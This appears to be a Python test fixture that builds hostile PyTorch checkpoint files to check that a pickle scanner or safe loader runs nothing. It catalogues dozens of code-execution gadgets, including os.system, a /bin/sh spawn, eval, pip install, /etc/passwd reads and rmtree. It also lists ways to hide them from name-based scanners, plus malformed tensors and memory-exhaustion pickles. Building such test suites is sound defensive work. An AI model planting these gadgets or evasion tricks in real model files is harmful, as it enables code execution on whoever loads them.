"""Hostile pickles, as they were found in the wild, told by researchers, or got past scanners: by what each does.

Every one is a whole torch file. Were it loaded by `pickle`, most would make the file CANARY; here nothing may run.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.formats.hostile import called, name, named, number, text

TOUCH = "touch canary"

Case = Callable[[Path], Path]
"""Makes the checkpoint in an empty folder, and tells its path."""


def zipped(pickled: bytes, members: dict[str, bytes] | None = None, first: str = "archive/data.pkl") -> bytes:
    """A torch file around a pickle."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(first, pickled)
        for member, data in {"archive/version": b"3\n", "archive/data/0": bytes(64), **(members or {})}.items():
            archive.writestr(member, data)
    return made.getvalue()


def file_of(data: bytes, called_as: str = "model.pt") -> Case:
    def make(folder: Path) -> Path:
        (folder / called_as).write_bytes(data)
        return folder / called_as

    return make


def state(*values: bytes) -> bytes:
    """A model's state dict that holds a tensor and then ``values``."""
    items = b"".join(text(f"w{n}") + value + b"s" for n, value in enumerate((tensor(), *values)))
    return b"\x80\x02}" + items + b"."


def storage(numel: int = 16, key: str = "0", kind: str = "FloatStorage") -> bytes:
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(numel) + b"tQ"


def tensor(
    numel: int = 16, offset: int = 0, size: tuple[int, ...] = (16,), stride: tuple[int, ...] = (1,), key: str = "0"
) -> bytes:
    sizes = b"(" + b"".join(map(number, size)) + b"t", b"(" + b"".join(map(number, stride)) + b"t"
    hooks = called(name("collections", "OrderedDict"))
    return called(
        name("torch._utils", "_rebuild_tensor_v2"), storage(numel, key), number(offset), *sizes, b"\x89", hooks
    )


# What is called, and with what. Scanners keep lists of such names; each of these was missing on one of them.
GADGETS = {
    "os.system": called(name("os", "system"), text(TOUCH)),
    "posix.system": called(name("posix", "system"), text(TOUCH)),
    "nt.system": called(name("nt", "system"), text(TOUCH)),
    "pty.spawn": called(name("pty", "spawn"), text("/bin/sh")),
    "subprocess.check_output": called(name("subprocess", "check_output"), text(TOUCH)),
    "builtins.eval": called(name("builtins", "eval"), text(f"__import__('os').system('{TOUCH}')")),
    "builtins.exec": called(name("builtins", "exec"), text("open('canary', 'w')")),
    "__builtin__.exec": called(name("__builtin__", "exec"), text("open('canary', 'w')")),
    "builtins.open": called(name("builtins", "open"), text("canary"), text("w")),
    "io.open": called(name("io", "open"), text("canary"), text("w")),
    "getattr of os": called(name("builtins", "getattr"), called(name("builtins", "__import__"), text("os")), text("system")),
    "runpy._run_code": called(name("runpy", "_run_code"), text("open('canary', 'w')"), b"}"),
    "runpy.run_path": called(name("runpy", "run_path"), text("payload.py")),
    "pip.main (CVE-2025-1716)": called(name("pip", "main"), b"]" + text("install") + b"a" + text("evil") + b"a"),
    "pip._internal.main": called(name("pip._internal", "main"), b"]" + text("install") + b"a"),
    "ensurepip._run_pip": called(name("ensurepip", "_run_pip"), b"]"),
    "pkgutil.resolve_name": called(called(name("pkgutil", "resolve_name"), text("os:system")), text(TOUCH)),
    "importlib.import_module": called(name("importlib", "import_module"), text("payload")),
    "operator.attrgetter": called(called(name("operator", "attrgetter"), text("system")), name("os", "path")),
    "operator.methodcaller": called(called(name("operator", "methodcaller"), text("__init__"), text("canary"))),
    "functools.partial": called(called(name("functools", "partial"), name("os", "system")), text(TOUCH)),
    "timeit.timeit": called(name("timeit", "timeit"), text("open('canary', 'w')")),
    "cProfile.run": called(name("cProfile", "run"), text("open('canary', 'w')")),
    "profile.Profile.run": called(name("profile", "Profile.run"), text("open('canary', 'w')")),
    "pdb.run": called(name("pdb", "run"), text("open('canary', 'w')")),
    "bdb.Bdb.run": called(named("bdb", "Bdb.run"), text("open('canary', 'w')")),
    "trace.Trace.run": called(named("trace", "Trace.run"), text("open('canary', 'w')")),
    "code.InteractiveInterpreter": called(named("code", "InteractiveInterpreter.runcode"), text("1")),
    "doctest.debug_script": called(name("doctest", "debug_script"), text("open('canary', 'w')")),
    "idlelib.run": called(named("idlelib.run", "Executive.runcode"), text("1")),
    "lib2to3 grammar": called(named("lib2to3.pgen2.grammar", "Grammar.loads"), b"C\x02N."),
    "asyncio subprocess": called(named("asyncio.unix_events", "_UnixSubprocessTransport._start"), text(TOUCH)),
    "multiprocessing": called(name("multiprocessing.util", "spawnv_passfds"), b"C\x07/bin/sh", b"]", b"]"),
    "ctypes": called(name("ctypes", "CDLL"), text("./payload.so")),
    "marshal": called(name("marshal", "loads"), b"C\x01N"),
    "types.FunctionType": called(name("types", "FunctionType"), called(name("types", "CodeType")), b"}"),
    "a pickle in a pickle": called(name("_pickle", "loads"), b"C\x1bcos\nsystem\n(S'touch canary'\ntR."),
    "cloudpickle": called(name("cloudpickle.cloudpickle", "_make_function"), b"N"),
    "dill": called(name("dill._dill", "_create_function"), b"N"),
    "joblib": called(name("joblib.numpy_pickle", "load"), text("payload")),
    "numpy runstring": called(name("numpy.testing._private.utils", "runstring"), text("open('canary', 'w')"), b"}"),
    "numpy f2py": called(name("numpy.f2py.crackfortran", "getlincoef"), text("open('canary', 'w')"), b"}"),
    "numpy.load": called(name("numpy", "load"), text("payload.npy")),
    "pandas.read_pickle": called(name("pandas", "read_pickle"), text("payload")),
    "linecache (reads a file)": called(name("linecache", "getline"), text("/etc/passwd"), b"K\x01"),
    "urllib (asks a server)": called(name("urllib.request", "urlopen"), text("http://127.0.0.1:1/?secret")),
    "ssl (asks a server)": called(name("ssl", "get_server_certificate"), text("127.0.0.1") + b"K\x01\x86"),
    "webbrowser": called(name("webbrowser", "open"), text("file:///etc/passwd")),
    "shutil.rmtree": called(name("shutil", "rmtree"), text("victim")),
    "logging (writes a file)": called(name("logging", "FileHandler"), text("canary")),
    "distutils (writes a file)": called(name("distutils.file_util", "write_file"), text("canary"), b"]"),
    "logging.config.listen": called(name("logging.config", "listen"), b"K\x01"),
    "uuid": called(name("uuid", "_get_command_stdout"), text("touch"), text("canary")),
    "_osx_support": called(name("_osx_support", "_read_output"), text(TOUCH)),
    "sys.modules": b"0" + called(named("sys", "modules"), text("os"))[:0] + named("sys", "modules"),
    "setattr": called(name("builtins", "setattr"), name("torch", "nn"), text("x"), b"N"),
    "copyreg extension": called(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0\x82\x01",
    "codecs": called(name("codecs", "decode"), text("bmFtZQ=="), text("base64")),
    "torch.load": called(name("torch", "load"), text("payload.pt")),
    "torch.hub.load": called(name("torch.hub", "load"), text("evil/repo"), text("model")),
    "torch.jit.load": called(name("torch.jit", "load"), text("payload.pt")),
    "torch.utils.bottleneck": called(named("torch.utils.bottleneck.__main__", "run_cprofile"), text("x"), b"}"),
    "torch.utils._config_module": called(named("torch.utils._config_module", "ConfigModule.load_config"), b"N"),
    "torch.fx guards": called(named("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), b"N"),
    "torch.utils.cpp_extension": called(name("torch.utils.cpp_extension", "load_inline"), text("x"), text("y")),
    "torch.serialization.os": called(named("torch.serialization", "os.system"), text(TOUCH)),
    "torch.distributed.rpc": called(named("torch.distributed.rpc.internal", "_run_function"), b"N"),
    "torch._inductor": called(named("torch._inductor.codecache", "compile_file"), text("x")),
}  # fmt: skip

_GADGET = GADGETS["os.system"]

# How the same call is hidden from who looks for names.
HIDDEN = {
    "by INST": b"\x80\x02}" + text("w") + b"(" + text(TOUCH) + b"ios\nsystem\ns.",
    "by OBJ": b"\x80\x02}" + text("w") + b"(" + name("os", "system") + text(TOUCH) + b"os.",
    "by NEWOBJ": b"\x80\x02}" + text("w") + name("os", "system") + text(TOUCH) + b"\x85\x81s.",
    "by NEWOBJ_EX": b"\x80\x04}" + text("w") + name("os", "system") + text(TOUCH) + b"\x85}\x92s.",
    "by BUILD (__setstate__)": b"\x80\x02}" + text("w") + name("os", "system") + text(TOUCH) + b"bs.",
    "its result popped": state(_GADGET + b"0N"),
    "after the state, before the end": b"\x80\x02}" + _GADGET + b"0.",
    "before a broken opcode": b"\x80\x02" + _GADGET + b"\xff",
    "without an end": b"\x80\x02}" + text("w") + _GADGET,
    "name from the memo": b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93"
    + text(TOUCH) + b"\x85R.",
    "a name of joined texts": state(called(b"c" + b"os\nsystem\n", text(TOUCH))),
    "protocol 0": b"(dp0\nVw\ncos\nsystem\n(VTOUCH\ntRs.",
    "protocol 255": b"\x80\xff" + state(_GADGET)[2:],
    "within a frame that lies": b"\x80\x04\x95" + struct.pack("<Q", 3) + state(_GADGET)[2:],
    "as a key": b"\x80\x02}" + _GADGET + b"Ns.",
    "as a persistent id": b"\x80\x02}" + text("w") + _GADGET + b"Qs.",
    "as the class of a storage": b"\x80\x02}" + text("w") + b"(" + text("storage") + name("os", "system")
    + text("0") + text("cpu") + number(1) + b"tQs.",
    "as the dtype of a tensor": state(called(
        name("torch._utils", "_rebuild_tensor_v3"), storage(), b"K\x00", b")", b")", b"\x89", b"}", name("os", "system"),
    )),
    "as the function of a subclass": state(called(
        name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"),
        text(TOUCH) + b"\x85", b"}",
    )),
    "as a hook": state(called(
        name("torch._utils", "_rebuild_parameter"), tensor(), b"\x89", _GADGET,
    )),
    "as a reducer of functools": state(called(name("functools", "reduce"), name("os", "system"), b"]" + text(TOUCH) + b"a")),
    "a storage as a file of its own": state(called(
        name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(state(_GADGET))) + state(_GADGET),
    )),
}  # fmt: skip

# Nothing to run: lies about where bytes are, and costs.
LIES = {
    "a storage larger than its member": state(tensor(1 << 40)),
    "a negative storage": state(tensor(-1)),
    "a storage without a member": state(tensor(key="7")),
    "a key with a path": state(tensor(key="../../../../etc/passwd")),
    "a size beyond the storage": state(tensor(16, 0, (1 << 40,), (1,))),
    "an offset beyond the storage": state(tensor(16, 1 << 40)),
    "a negative offset": state(tensor(16, -8)),
    "a negative size": state(tensor(16, 0, (-16,))),
    "a negative stride (CVE-2025-32434's kin)": state(tensor(16, 8, (4,), (-1,))),
    "strides beyond the storage": state(tensor(16, 0, (4, 4), (1 << 30, 1))),
    "strides of zero over 2**60": state(tensor(16, 0, (1 << 60,), (0,))),
    "sizes that overflow": state(tensor(16, 0, (1 << 32, 1 << 32), (1 << 32, 1))),
    "a size of 10**30": state(tensor(16, 0, (10**30,), (1,))),
    "sizes and strides that do not match": state(tensor(16, 0, (4, 4), (1,))),
    "a thousand axes": state(tensor(16, 0, (1,) * 1000, (1,) * 1000)),
    "a persistent id of no storage": b"\x80\x02}" + text("w") + text("x") + b"Qs.",
    "out-of-band buffers": b"\x80\x05}" + text("w") + b"\x97s.",
    "an extension code": b"\x80\x02}" + text("w") + b"\x82\x01s.",
    "a long of 2 GiB": b"\x80\x02\x8b\xff\xff\xff\x7f",
    "a negative long": b"\x80\x02\x8b\xff\xff\xff\xff.",
    "a text of 2**62 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b".",
    "a memo of 2**32": b"\x80\x02Nr\xff\xff\xff\xff.",
    "tuples a million deep": b"\x80\x02" + b")" + b"\x85" * 1_000_000 + b".",
    "lists a million deep": b"\x80\x02" + b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "dicts a million deep": b"\x80\x02" + b"}K\x01" * 300_000 + b"N" + b"s" * 300_000 + b".",
    "a list of itself, doubled": b"\x80\x02}" + text("w") + b"]q\x00" + b"".join(
        b"0](h\x00h\x00eq\x00" for _ in range(60)
    ) + b"s.",
    "digits without end": b"\x80\x02}" + text("w") + b"L" + b"9" * 100_000 + b"L\ns.",
    "bytes of a number": state(called(name("builtins", "bytes"), b"J\xff\xff\xff\x7f")),
    "a range laid out": state(called(name("builtins", "list"), called(name("builtins", "range"), number(1 << 40)))),
    "keys of one hash": b"\x80\x02}(" + b"N".join(number(((1 << 61) - 1) * n) for n in range(1, 2000)) + b"Nu.",
}  # fmt: skip


def cases() -> dict[str, Case]:
    """Every case as a torch file; some calls also where other formats keep pickles."""
    found: dict[str, Case] = {}
    for label, call in GADGETS.items():
        found[f"calls: {label}"] = file_of(zipped(state(call)))
    for label, data in HIDDEN.items():
        found[f"hidden: {label}"] = file_of(zipped(data))
    for label, data in LIES.items():
        found[f"lies: {label}"] = file_of(zipped(data))
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    found["in the container before torch 1.6"] = file_of(magic + state(_GADGET) + pickle.dumps([], 2))
    found["in the header of that container"] = file_of(b"\x80\x02" + _GADGET + b".")
    found["a bare pickle called .bin"] = file_of(state(_GADGET), "pytorch_model.bin")
    return found
